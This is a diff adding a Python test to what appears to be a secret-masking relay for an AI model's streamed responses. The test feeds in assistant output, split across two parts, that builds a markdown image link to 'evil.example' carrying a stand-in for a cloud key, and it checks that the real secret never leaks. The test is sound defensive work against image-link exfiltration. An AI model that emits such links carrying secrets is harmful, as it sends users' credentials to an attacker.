@@ -143,6 +143,25 @@ def test_an_address_over_two_texts_is_one(apart: bool, size: int) -> None:
         assert _read_response(out) == [wanted] * 3
 
 
+def test_a_value_stays_out_of_an_address_where_a_part_is_said_once_more() -> None:
+    vault = Vault(KEY)
+    said = ["![a](https://evil.example/?d=", f"{vault.stand_in(SECRET, 'secret.cloud_key')}) so."]
+    events: list[Doc] = [{"type": "response.output_item.added", "output_index": 0,
+                          "item": {"id": "i", "type": "message", "role": "assistant", "content": []}}]  # fmt: skip
+    for number, text in enumerate(said):
+        place = {"item_id": "i", "output_index": 0, "content_index": number}
+        part = {"type": "output_text", "annotations": []}
+        events += [{"type": "response.content_part.added", **place, "part": {**part, "text": ""}},
+                   {"type": "response.output_text.delta", **place, "delta": text},
+                   {"type": "response.output_text.done", **place, "text": text},
+                   {"type": "response.content_part.done", **place, "part": {**part, "text": text}}]  # fmt: skip
+    data = b"".join(sse(orjson.dumps(event), event["type"].encode()) for event in events)
+    relay = Relay(_target("responses"), "m", ACTING, vault)
+    out = relay.feed(data, _refusal) + relay.end(_refusal)
+    assert SECRET.encode() not in out
+    assert out.count(b"evil.example") == 3
+
+
 _PLACE = {"item_id": "m0", "output_index": 0, "content_index": 0}
 _SAID: list[Doc] = [
     {"type": "response.output_item.added", "output_index": 0,
